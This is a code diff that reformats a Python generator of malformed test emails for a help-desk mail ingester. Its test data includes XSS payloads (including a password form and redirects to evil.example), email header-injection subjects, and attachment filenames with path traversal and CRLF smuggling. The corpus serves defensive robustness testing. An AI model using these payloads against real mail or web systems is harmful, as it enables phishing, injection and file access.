@@ -19,7 +19,7 @@ XSS = [
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     '<object data="data:text/html,<script>alert(1)</script>"></object>',
     '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
+    '<base href="https://evil.example/"><a href="/x">x</a>',
     '<form action="https://evil.example"><input name="password"></form>',
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
     '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
@@ -44,8 +44,10 @@ def _nested(depth: int, i: int) -> bytes:
         b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(depth)
     )
     closing = b"".join(b"--b%d--\n" % n for n in reversed(range(depth)))
-    head = (f"From: Deep <deep{i}@example.com>\nTo: help@shop.example\nSubject: nested {depth}\n"
-            f"Message-ID: <deep-{depth}-{i}@example.com>\nMIME-Version: 1.0\n").encode()
+    head = (
+        f"From: Deep <deep{i}@example.com>\nTo: help@shop.example\nSubject: nested {depth}\n"
+        f"Message-ID: <deep-{depth}-{i}@example.com>\nMIME-Version: 1.0\n"
+    ).encode()
     return head + opening + b"Content-Type: text/plain\n\ninnermost text\n" + closing
 
 
@@ -59,43 +61,68 @@ def generated() -> list[tuple[str, bytes]]:
         i += 1
 
     # Broken MIME boundaries.
-    for variant, body in enumerate([
-        b"--x\nContent-Type: text/plain\n\nno end\n",
-        b"no boundary at all\n",
-        b"--x--\n",
-        b"--y\nContent-Type: text/plain\n\nwrong boundary\n--y--\n",
-        b"--x\n\n--x\n\n--x--\n",
-        b"--x\nContent-Type: multipart/alternative\n\n--x\n--x--\n",
-        b"--x\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!notbase64!!!\n--x--\n",
-        b"--x\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n=ZZ=\n=\n--x--\n",
-        b"--" + b"x" * 5000 + b"\n",
-        b"--x\nContent-Type: \n\n\n--x--\n",
-    ]):
-        add(f"broken-boundary-{variant}", _msg(i, "Subject: broken\nMIME-Version: 1.0\n"
-                                               'Content-Type: multipart/mixed; boundary="x"\n',
-                                               body))
+    for variant, body in enumerate(
+        [
+            b"--x\nContent-Type: text/plain\n\nno end\n",
+            b"no boundary at all\n",
+            b"--x--\n",
+            b"--y\nContent-Type: text/plain\n\nwrong boundary\n--y--\n",
+            b"--x\n\n--x\n\n--x--\n",
+            b"--x\nContent-Type: multipart/alternative\n\n--x\n--x--\n",
+            b"--x\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\n"
+            b"!!!notbase64!!!\n--x--\n",
+            b"--x\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n"
+            b"=ZZ=\n=\n--x--\n",
+            b"--" + b"x" * 5000 + b"\n",
+            b"--x\nContent-Type: \n\n\n--x--\n",
+        ]
+    ):
+        add(
+            f"broken-boundary-{variant}",
+            _msg(
+                i,
+                'Subject: broken\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="x"\n',
+                body,
+            ),
+        )
     # Unknown and mislabelled charsets.
-    for variant, (charset, payload) in enumerate([
-        ("x-unknown", b"caf\xe9"),
-        ("utf-8", b"caf\xe9 \xff\xfe"),
-        ("us-ascii", "naïve café".encode()),
-        ("iso-2022-jp", b"\x1b$B\xff\xff\x1b(B"),
-        ("utf-7", b"+ZeVnLIqe-"),
-        ("", b"plain \x80\x81"),
-        ("utf-16", b"\xff\xfeh\x00i\x00\x00"),
-        ('"', b"quote charset"),
-        ("latin1; foo=bar", b"caf\xe9"),
-        ("../../etc/passwd", b"path charset"),
-    ]):
-        add(f"charset-{variant}", _msg(
-            i, f"Subject: charset {variant}\nMIME-Version: 1.0\n"
-               f'Content-Type: text/plain; charset="{charset}"\n'
-               "Content-Transfer-Encoding: 8bit\n", payload))
+    for variant, (charset, payload) in enumerate(
+        [
+            ("x-unknown", b"caf\xe9"),
+            ("utf-8", b"caf\xe9 \xff\xfe"),
+            ("us-ascii", "naïve café".encode()),
+            ("iso-2022-jp", b"\x1b$B\xff\xff\x1b(B"),
+            ("utf-7", b"+ZeVnLIqe-"),
+            ("", b"plain \x80\x81"),
+            ("utf-16", b"\xff\xfeh\x00i\x00\x00"),
+            ('"', b"quote charset"),
+            ("latin1; foo=bar", b"caf\xe9"),
+            ("../../etc/passwd", b"path charset"),
+        ]
+    ):
+        add(
+            f"charset-{variant}",
+            _msg(
+                i,
+                f"Subject: charset {variant}\nMIME-Version: 1.0\n"
+                f'Content-Type: text/plain; charset="{charset}"\n'
+                "Content-Transfer-Encoding: 8bit\n",
+                payload,
+            ),
+        )
     # 8-bit headers.
-    for variant, subject in enumerate([
-        "Caf\udce9", "\udcff\udcfe\x00", "Ça va? 日本語", "R\udce9sum\udce9 ",
-        "=?utf-8?b?////?=", "=?unknown?q?x?=", "=?utf-8?q?unterminated", "=?=?=?",
-    ]):
+    for variant, subject in enumerate(
+        [
+            "Caf\udce9",
+            "\udcff\udcfe\x00",
+            "Ça va? 日本語",
+            "R\udce9sum\udce9 ",
+            "=?utf-8?b?////?=",
+            "=?unknown?q?x?=",
+            "=?utf-8?q?unterminated",
+            "=?=?=?",
+        ]
+    ):
         add(f"8bit-header-{variant}", _msg(i, f"Subject: {subject}\n"))
     # Nesting.
     for depth in (50, 51, 100, 300):
@@ -109,67 +136,129 @@ def generated() -> list[tuple[str, bytes]]:
     add("nul-bytes", _msg(i, "Subject: nul\x00bytes\n", b"body\x00with\x00nul\n"))
     # HTML payloads.
     for variant, payload in enumerate(XSS):
-        add(f"html-{variant}", _msg(i, f"Subject: html {variant}\nMIME-Version: 1.0\n"
-                                       "Content-Type: text/html; charset=utf-8\n",
-                                    f"<p>Hello</p>{payload}<p>bye</p>"))
+        add(
+            f"html-{variant}",
+            _msg(
+                i,
+                f"Subject: html {variant}\nMIME-Version: 1.0\n"
+                "Content-Type: text/html; charset=utf-8\n",
+                f"<p>Hello</p>{payload}<p>bye</p>",
+            ),
+        )
     # Auto-replies and lists.
-    for variant, header in enumerate([
-        "Auto-Submitted: auto-replied", "Auto-Submitted: auto-generated",
-        "Precedence: bulk", "Precedence: junk", "Precedence: list", "X-Autoreply: yes",
-        "X-Autorespond: vacation", "List-Id: <news.example.com>",
-    ]):
+    for variant, header in enumerate(
+        [
+            "Auto-Submitted: auto-replied",
+            "Auto-Submitted: auto-generated",
+            "Precedence: bulk",
+            "Precedence: junk",
+            "Precedence: list",
+            "X-Autoreply: yes",
+            "X-Autorespond: vacation",
+            "List-Id: <news.example.com>",
+        ]
+    ):
         add(f"auto-{variant}", _msg(i, f"Subject: Out of office {variant}\n{header}\n"))
     for variant in range(3):
-        add(f"mailer-daemon-{variant}", _msg(
-            i, f"From: MAILER-DAEMON <mailer-daemon@mx{variant}.example>\nSubject: failure\n"))
+        add(
+            f"mailer-daemon-{variant}",
+            _msg(i, f"From: MAILER-DAEMON <mailer-daemon@mx{variant}.example>\nSubject: failure\n"),
+        )
     # Loops: our own Message-IDs coming back.
     for variant in range(3):
-        add(f"loop-{variant}", _msg(
-            i, f"Subject: Re: ours\nMessage-ID: <rd.{variant:032x}@rightdesk.localhost>\n"))
+        add(
+            f"loop-{variant}",
+            _msg(i, f"Subject: Re: ours\nMessage-ID: <rd.{variant:032x}@rightdesk.localhost>\n"),
+        )
     # Ambiguous or missing senders.
-    for variant, sender in enumerate([
-        "alice@example.org)<bob@example.org>", "a@example.org, b@example.org",
-        "<>", "no-at-sign", "Alice <alice@example.org> <bob@example.org>",
-        "=?utf-8?q?x=0A?= <a@b@c>", "\"unterminated <x@example.org>",
-    ]):
+    for variant, sender in enumerate(
+        [
+            "alice@example.org)<bob@example.org>",
+            "a@example.org, b@example.org",
+            "<>",
+            "no-at-sign",
+            "Alice <alice@example.org> <bob@example.org>",
+            "=?utf-8?q?x=0A?= <a@b@c>",
+            '"unterminated <x@example.org>',
+        ]
+    ):
         add(f"sender-{variant}", _msg(i, f"From: {sender}\nSubject: who am I\n"))
     # Header injection.
-    for variant, subject in enumerate([
-        "=?utf-8?q?hi=0ABcc:_x@example.com?=", "=?utf-8?q?hi=0D=0ATo:_y@example.com?=",
-        "=?utf-8?b?aGkNCkJjYzogeEBleGFtcGxlLmNvbQ==?=", "hi\tthere",
-        "=?utf-8?q?=E2=80=A8Bcc:_z@example.com?=",
-    ]):
+    for variant, subject in enumerate(
+        [
+            "=?utf-8?q?hi=0ABcc:_x@example.com?=",
+            "=?utf-8?q?hi=0D=0ATo:_y@example.com?=",
+            "=?utf-8?b?aGkNCkJjYzogeEBleGFtcGxlLmNvbQ==?=",
+            "hi\tthere",
+            "=?utf-8?q?=E2=80=A8Bcc:_z@example.com?=",
+        ]
+    ):
         add(f"injection-{variant}", _msg(i, f"Subject: {subject}\n"))
     # Bad transfer encodings.
-    for variant, cte in enumerate(["base64", "quoted-printable", "x-uuencode", "7bit", "bogus",
-                                   "binary"]):
-        add(f"cte-{variant}", _msg(i, f"Subject: cte {variant}\nMIME-Version: 1.0\n"
-                                      f"Content-Transfer-Encoding: {cte}\n",
-                                   b"====\xff\n=\n!!!\n"))
+    for variant, cte in enumerate(
+        ["base64", "quoted-printable", "x-uuencode", "7bit", "bogus", "binary"]
+    ):
+        add(
+            f"cte-{variant}",
+            _msg(
+                i,
+                f"Subject: cte {variant}\nMIME-Version: 1.0\nContent-Transfer-Encoding: {cte}\n",
+                b"====\xff\n=\n!!!\n",
+            ),
+        )
     # Hostile attachments.
-    for variant, filename in enumerate([
-        "../../etc/passwd", "evil.html", "x\r\nContent-Type: text/html", "a" * 500 + ".pdf",
-        "=?utf-8?q?invoice=0A.exe?=", "con.txt", "",
-    ]):
+    for variant, filename in enumerate(
+        [
+            "../../etc/passwd",
+            "evil.html",
+            "x\r\nContent-Type: text/html",
+            "a" * 500 + ".pdf",
+            "=?utf-8?q?invoice=0A.exe?=",
+            "con.txt",
+            "",
+        ]
+    ):
         data = base64.b64encode(b"<script>alert(1)</script>").decode()
-        body = ("--m\nContent-Type: text/plain\n\nsee attached\n--m\n"
-                f'Content-Type: text/html; name="{filename}"\n'
-                f'Content-Disposition: attachment; filename="{filename}"\n'
-                f"Content-Transfer-Encoding: base64\n\n{data}\n--m--\n")
-        add(f"attachment-{variant}", _msg(i, "Subject: attachment\nMIME-Version: 1.0\n"
-                                             'Content-Type: multipart/mixed; boundary="m"\n', body))
+        body = (
+            "--m\nContent-Type: text/plain\n\nsee attached\n--m\n"
+            f'Content-Type: text/html; name="{filename}"\n'
+            f'Content-Disposition: attachment; filename="{filename}"\n'
+            f"Content-Transfer-Encoding: base64\n\n{data}\n--m--\n"
+        )
+        add(
+            f"attachment-{variant}",
+            _msg(
+                i,
+                "Subject: attachment\nMIME-Version: 1.0\n"
+                'Content-Type: multipart/mixed; boundary="m"\n',
+                body,
+            ),
+        )
     # Odd sizes.
     add("long-subject", _msg(i, "Subject: " + "x" * 100_000 + "\n"))
-    add("many-to", _msg(i, "To: " + ", ".join(f"u{n}@example.com" for n in range(5000)) + "\n"
-                           "Subject: many recipients\n"))
-    add("long-references", _msg(i, "Subject: refs\nReferences: "
-                                   + " ".join(f"<r{n}@x>" for n in range(5000)) + "\n"))
+    add(
+        "many-to",
+        _msg(
+            i,
+            "To: " + ", ".join(f"u{n}@example.com" for n in range(5000)) + "\n"
+            "Subject: many recipients\n",
+        ),
+    )
+    add(
+        "long-references",
+        _msg(i, "Subject: refs\nReferences: " + " ".join(f"<r{n}@x>" for n in range(5000)) + "\n"),
+    )
     add("bad-date", _msg(i, "Subject: date\nDate: Feb 31 99999 25:61:61 +9999\n"))
-    add("message-rfc822", _msg(i, "Subject: fwd\nMIME-Version: 1.0\n"
-                                  'Content-Type: multipart/mixed; boundary="f"\n',
-                               "--f\nContent-Type: text/plain\n\nforwarded\n--f\n"
-                               "Content-Type: message/rfc822\n\nFrom: x@y\nSubject: inner\n\n"
-                               "inner body\n--f--\n"))
+    add(
+        "message-rfc822",
+        _msg(
+            i,
+            'Subject: fwd\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="f"\n',
+            "--f\nContent-Type: text/plain\n\nforwarded\n--f\n"
+            "Content-Type: message/rfc822\n\nFrom: x@y\nSubject: inner\n\n"
+            "inner body\n--f--\n",
+        ),
+    )
     return out
 
 
@@ -179,9 +268,11 @@ def hand_written() -> list[tuple[str, bytes]]:
 
 def big_attachment(size: int = 30 * 1024 * 1024) -> bytes:
     data = base64.encodebytes(b"\x00" * size)
-    return (b"From: Big <big@example.com>\nTo: help@shop.example\nSubject: 30 MB attachment\n"
-            b"Message-ID: <big@example.com>\nMIME-Version: 1.0\n"
-            b'Content-Type: multipart/mixed; boundary="B"\n\n--B\nContent-Type: text/plain\n\n'
-            b"Here is the video.\n--B\nContent-Type: application/octet-stream\n"
-            b'Content-Disposition: attachment; filename="video.bin"\n'
-            b"Content-Transfer-Encoding: base64\n\n" + data + b"--B--\n")
+    return (
+        b"From: Big <big@example.com>\nTo: help@shop.example\nSubject: 30 MB attachment\n"
+        b"Message-ID: <big@example.com>\nMIME-Version: 1.0\n"
+        b'Content-Type: multipart/mixed; boundary="B"\n\n--B\nContent-Type: text/plain\n\n'
+        b"Here is the video.\n--B\nContent-Type: application/octet-stream\n"
+        b'Content-Disposition: attachment; filename="video.bin"\n'
+        b"Content-Transfer-Encoding: base64\n\n" + data + b"--B--\n"
+    )
